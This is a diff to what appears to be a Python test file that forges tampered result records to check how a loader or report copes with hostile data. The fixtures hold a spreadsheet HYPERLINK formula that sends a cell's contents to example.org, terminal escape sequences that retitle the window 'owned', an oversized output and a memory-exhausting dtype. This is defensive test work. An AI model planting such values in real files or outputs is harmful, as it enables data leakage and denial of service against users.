@@ -197,7 +197,7 @@ def _at_exit(body):
 _FORMULA = "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")\x1b[31m\x1b]0;owned\x07"
 _FORGED_ERROR = _at_exit(f"""
 record = json.load(open(last))
-record['cases'] = [{{'error': {_FORMULA!r}, 'error_type': 'ValueError'}} for _ in record['cases']]
+record['cases'] = [{{'error_message': {_FORMULA!r}, 'error_type': 'ValueError'}} for _ in record['cases']]
 json.dump(record, open(last, 'w'))
 record = json.load(open(before))
 record['output'] = 'x' * 2_000_000
@@ -206,7 +206,7 @@ json.dump(record, open(before, 'w'))
 _FORGED_DTYPE = _at_exit("""
 record = json.load(open(last))
 for case in record['cases']:
-    case['parts'] = [{'shape': [1], 'data': ['x'], 'dtype': 'U268435456'}]
+    case['value'] = {'array': {'shape': [1], 'data': ['x'], 'dtype': 'U268435456'}}
 json.dump(record, open(last, 'w'))
 """)
 _RESULTS_LINKED = _at_exit("""
